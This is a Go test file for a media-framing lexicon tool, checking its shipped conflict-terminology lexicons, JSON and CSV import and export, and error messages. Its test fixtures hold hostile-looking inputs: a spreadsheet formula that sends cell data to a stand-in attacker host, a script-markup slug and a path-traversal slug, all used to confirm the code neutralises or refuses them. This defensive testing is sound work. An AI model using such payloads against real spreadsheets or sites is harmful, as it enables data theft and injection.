package lexicons

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"slices"
	"strings"
	"testing"

	"framelens/framing"
)

func shipped(t *testing.T) []framing.Lexicon {
	t.Helper()
	list, err := Shipped()
	if err != nil {
		t.Fatalf("a shipped lexicon is invalid: %v", err)
	}
	if len(list) < 2 {
		t.Fatalf("only %d shipped lexicons", len(list))
	}
	return list
}

// Every shipped term is whole: a perspective, a note, a public source, no
// phrase twice in a concept, and every form finds its own term where its
// lexicon applies (a topic lexicon with the general ones, a general one
// with the other general ones): within what applies together, one span
// has one label, so two concepts must not share a wording.
func TestEveryShippedTermIsSourcedExplainedAndFindable(t *testing.T) {
	list := shipped(t)
	for _, l := range list {
		var topics []string
		if l.IsTopic() {
			topics = []string{l.Slug}
		}
		applied := framing.Scoped(list, topics)
		m, err := framing.Compile(applied)
		if err != nil {
			t.Fatal(err)
		}
		li := slices.IndexFunc(applied, func(x framing.Lexicon) bool { return x.Slug == l.Slug })
		for ci, c := range l.Concepts {
			phrases := map[string]bool{}
			for ti, term := range c.Terms {
				where := l.Slug + "/" + c.Slug + "/" + term.Phrase
				if term.Perspective == "" || strings.TrimSpace(term.Note) == "" || !strings.HasPrefix(term.SourceURL, "https://") || term.SourceTitle == "" {
					t.Errorf("%s: needs a perspective, a note, a source title and an https source", where)
				}
				key := strings.ToLower(term.Phrase) + "/" + term.Language
				if phrases[key] {
					t.Errorf("%s appears twice in its concept", where)
				}
				phrases[key] = true
				for _, form := range term.MatchedForms() {
					var got []string
					found := false
					for _, match := range m.Analyze(form).Matches {
						if match.Ref == (framing.TermRef{Lexicon: li, Concept: ci, Term: ti}) && match.Surface == strings.TrimSpace(form) {
							found = true
						}
						got = append(got, match.Surface+" → "+m.Lexicon(match.Ref).Slug+"/"+m.Concept(match.Ref).Slug+"/"+m.Term(match.Ref).Phrase)
					}
					if !found {
						t.Errorf("%s: the form %q does not find its own term; it finds %q", where, form, got)
					}
				}
			}
		}
	}
}

func TestTheMainLexiconIsSeededFirst(t *testing.T) {
	if got := shipped(t)[0].Slug; got != "nagorno-karabakh" {
		t.Errorf("first shipped lexicon is %q", got)
	}
}

func TestExportThenImportLosesNothing(t *testing.T) {
	for _, l := range shipped(t) {
		for _, format := range []struct {
			name string
			out  func(framing.Lexicon) ([]byte, error)
			in   func([]byte) (framing.Lexicon, error)
		}{{"json", ExportJSON, ImportJSON}, {"csv", ExportCSV, ImportCSV}} {
			data, err := format.out(l)
			if err != nil {
				t.Fatal(err)
			}
			back, err := format.in(data)
			if err != nil {
				t.Fatalf("%s %s: import of an export failed: %v", l.Slug, format.name, err)
			}
			want := l.Clone()
			for ci := range want.Concepts {
				for ti := range want.Concepts[ci].Terms {
					want.Concepts[ci].Terms[ti].Match = want.Concepts[ci].Terms[ti].MatchMode()
				}
			}
			if !reflect.DeepEqual(back, want) {
				t.Errorf("%s %s round trip changed the lexicon", l.Slug, format.name)
			}
		}
	}
}

func TestABadFileIsRefusedWithTheLineAndFieldAtFault(t *testing.T) {
	good, err := ExportCSV(shipped(t)[1])
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(string(good), "\n")
	const termRow = "term,,,,en,,,phrase,,,,note,,,https://example.org/s\n"
	const jsonConcept = `{"slug": "c", "name": "C", "terms": [{"phrase": "p", "note": "n", "source": {"url": "https://example.org/s"}}]}`
	tests := []struct {
		name   string
		data   string
		csv    bool
		wanted string
	}{
		{"empty JSON", "", false, "empty"},
		{"broken JSON", "{\n  \"slug\": \"x\",\n  \"name\": \n}", false, "Line 4"},
		{"wrong type in JSON", "{\n\"slug\": \"x\",\n\"concepts\": 5\n}", false, "Line 3, concepts"},
		{"unknown field in JSON", `{"slug": "x", "nmae": "X"}`, false, "unknown field"},
		{"invalid term in JSON", `{"slug":"x","name":"X","language":"en","concepts":[{"slug":"c","name":"C","terms":[{"phrase":"p","note":"n"}]}]}`, false, "concepts[0].terms[0]"},
		{"missing column in CSV", "kind,slug\nlexicon,x\n", true, "Line 1, name"},
		{"unknown row kind in CSV", lines[0] + "\nlexicon,x,X,,en,,,,,,,,,,\nthing,,,,,,,,,,,,,,\n", true, "Line 3, kind"},
		{"term before any concept", lines[0] + "\nlexicon,x,X,,en,,,,,,,,,,\nterm,,,,en,,,p,,,,n,,,https://e.org\n", true, "Line 3, kind"},
		{"term without a source in CSV", lines[0] + "\nlexicon,x,X,,en,,,,,,,,,,\nconcept,c,C,,,,,,,,,,,,\nterm,,,,en,,,phrase,,,,note,,,\n", true, "Line 4"},
		{"unbalanced quote in CSV", lines[0] + "\nlexicon,\"x,X\n", true, "not valid CSV"},
		{"unknown column in CSV", lines[0] + ",colour\nlexicon,x,X,,en,,,,,,,,,,,\n", true, "Line 1, colour"},
		{"slug with a slash in CSV", lines[0] + "\nlexicon,a/../b,X,,en,,,,,,,,,,\nconcept,c,C,,,,,,,,,,,,\n" + termRow, true, "Line 2: The lexicon: the slug"},
		{"concept slug with markup in CSV", lines[0] + "\nlexicon,x,X,,en,,,,,,,,,,\nconcept,\"\"\"><script>\",C,,,,,,,,,,,,\n" + termRow, true, "Line 3: Concept 1"},
		{"slug with a line break in JSON", "{\"slug\": \"x\\ny\", \"name\": \"X\", \"language\": \"en\",\n\"concepts\": [" + jsonConcept + "]}", false, "Line 1, slug"},
		{"slug of 5,000 characters in JSON", "{\n\"slug\": \"" + strings.Repeat("a", 5000) + "\",\n\"name\": \"X\", \"language\": \"en\", \"concepts\": [" + jsonConcept + "]}", false, "Line 2, slug"},
		{"name of 100,000 characters in JSON", "{\"slug\": \"x\", \"language\": \"en\",\n\"name\": \"" + strings.Repeat("n", 100_000) + "\", \"concepts\": [" + jsonConcept + "]}", false, "Line 2, name"},
		{"long perspective name in CSV", lines[0] + "\nlexicon,x,X,,en,,,,,,,,,,\nperspective,p," + strings.Repeat("n", 201) + ",,,,,,,,,,,,\nconcept,c,C,,,,,,,,,,,,\n" + termRow, true, "Line 3: Perspective 1's name"},
		{"pattern of too many wordings in CSV", lines[0] + "\nlexicon,x,X,,en,,,,,,,,,,\nconcept,c,C,,,,,,,,,,,,\nterm,,,,en,,," +
			strings.Repeat("{a|b|c} ", 6) + ",,,,note,,,https://example.org/s\n", true, "Line 4: Concept \"C\", term \"{a|b|c}"},
		{"pattern of too many wordings, the reason", lines[0] + "\nlexicon,x,X,,en,,,,,,,,,,\nconcept,c,C,,,,,,,,,,,,\nterm,,,,en,,," +
			strings.Repeat("{a|b|c} ", 6) + ",,,,note,,,https://example.org/s\n", true, "more than 512 wordings"},
		{"broken pattern in JSON, on its line", "{\"slug\":\"x\",\"name\":\"X\",\"language\":\"en\",\"concepts\":[\n{\"slug\":\"c\",\"name\":\"C\",\"terms\":[\n" +
			"{\"phrase\":\"{anti|counter-terror measures\",\"note\":\"n\",\"source\":{\"url\":\"https://example.org/s\"}}]}]}", false, "never closed"},
		{"invalid term in JSON, on its line", "{\"slug\":\"x\",\"name\":\"X\",\"language\":\"en\",\"concepts\":[\n{\"slug\":\"c\",\"name\":\"C\",\"terms\":[\n{\"phrase\":\"p\",\"note\":\"n\"}]}]}", false, "Line 3, concepts[0].terms[0]"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var err error
			if tt.csv {
				_, err = ImportCSV([]byte(tt.data))
			} else {
				_, err = ImportJSON([]byte(tt.data))
			}
			msg := framing.ErrorMessage(err)
			if framing.ErrorCode(err) != framing.EInvalid || !strings.Contains(msg, tt.wanted) {
				t.Errorf("error %.300v, want invalid mentioning %q", err, tt.wanted)
			}
			if !strings.HasPrefix(msg, "Line ") {
				t.Errorf("error %.300q names no line", msg)
			}
		})
	}
}

func TestParseRefusesUnknownKeys(t *testing.T) {
	_, err := Parse([]byte("slug: x\nname: X\nlanguage: en\nconcepts: []\nperspectivs: []\n"))
	if err == nil || !strings.Contains(err.Error(), "perspectivs") {
		t.Errorf("a misspelt key was accepted: %v", err)
	}
}

// The shipped content covers what the product promises on day one.
func TestShippedLexiconsCoverTheirTopics(t *testing.T) {
	bySlug := map[string]framing.Lexicon{}
	for _, l := range shipped(t) {
		bySlug[l.Slug] = l
	}
	min := map[string][2]int{ // concepts, terms
		"nagorno-karabakh": {20, 80}, "israel-palestine": {8, 25}, "russia-ukraine": {8, 25},
		"attribution-verbs": {1, 10}, "conflict-labels": {1, 9},
	}
	for slug, want := range min {
		l, ok := bySlug[slug]
		if !ok {
			t.Errorf("no shipped lexicon %s", slug)
			continue
		}
		if len(l.Concepts) < want[0] || l.TermCount() < want[1] {
			t.Errorf("%s: %d concepts and %d terms, want at least %d and %d", slug, len(l.Concepts), l.TermCount(), want[0], want[1])
		}
	}
	m, err := framing.Compile(shipped(t))
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range []string{
		// Nagorno-Karabakh
		"Artsakh", "Upper Karabakh", "Mountainous Karabakh", "Karabakh economic region", "Stepanakert", "Khankendi",
		"Shusha", "Shushi", "occupied", "Armenian-controlled", "under Armenian occupation", "liberated", "recaptured",
		"retook", "captured", "seized", "ceded", "handed over", "44-day war", "Second Karabakh War", "Patriotic War",
		"separatists", "illegal armed formations", "Armenian militants", "Armenian terrorists", "Defense Army",
		"ethnic Armenian forces", "Karabakh Armenian forces", "separatist regime", "so-called president", "de facto authorities",
		"Republic of Artsakh government", "anti-terrorist measures", "counter-terrorist operation", "offensive",
		"military operation", "invasion of Artsakh", "Azerbaijani aggression", "Azerbaijani attack",
		"restore constitutional order", "reintegration", "blockade", "illegal blockade", "eco-activists",
		"environmental protest", "self-described activists", "ethnic cleansing", "exodus", "forcibly displaced persons",
		"refugees", "left voluntarily", "internationally recognized as part of Azerbaijan", "breakaway",
		"self-declared", "unrecognized", "disputed region", "Нагорный Карабах", "Степанакерт", "Ханкенди", "Арцах",
		// attribution verbs and conflict labels
		"said", "stated", "told", "claimed", "alleged", "insisted", "touted", "boasted", "admitted", "conceded",
		"stressed", "underlined", "noted", "terrorists", "militants", "fighters", "gunmen", "insurgents", "rebels",
		"freedom fighters", "resistance fighters",
		// other conflicts
		"special military operation", "full-scale invasion", "annexed", "reunification", "Kiev", "Kyiv",
		"Judea and Samaria", "occupied West Bank", "security fence", "Temple Mount", "Haram al-Sharif", "Nakba",
	} {
		if len(m.Analyze(w).Matches) == 0 {
			t.Errorf("no shipped term finds %q", w)
		}
	}
}

// A lexicon's text may start like a spreadsheet formula: the CSV export
// keeps every such cell inert, starts with a byte-order mark so that
// spreadsheets read it as UTF-8, and the import gives the text back as it was.
func TestTheCSVExportKeepsFormulasInertAndTheImportGivesTheTextBack(t *testing.T) {
	l := framing.Lexicon{Slug: "formulas", Name: "=Formulas", Language: "en", Scope: framing.ScopeGeneral, Description: "+1 for Chloé",
		Perspectives: []framing.Perspective{{Slug: "p", Name: "@mention", Description: "-minus"}},
		Concepts: []framing.Concept{{Slug: "c", Name: "Concept", Category: "places", Description: "'=quoted already",
			Terms: []framing.Term{{Phrase: "Northburg", Language: "en", Perspective: "p", Match: framing.MatchWord,
				Note: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Neutral: "-the city", SourceTitle: "@source",
				SourceURL: "https://example.org/n"}}}},
	}
	data, err := ExportCSV(l)
	if err != nil {
		t.Fatal(err)
	}
	rest, ok := bytes.CutPrefix(data, []byte("\xEF\xBB\xBF"))
	if !ok {
		t.Error("the CSV does not start with a UTF-8 byte-order mark")
	}
	rows, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
	}
	back, err := ImportCSV(data)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(back, l) {
		t.Errorf("round trip changed the lexicon:\n got %+v\nwant %+v", back, l)
	}
}
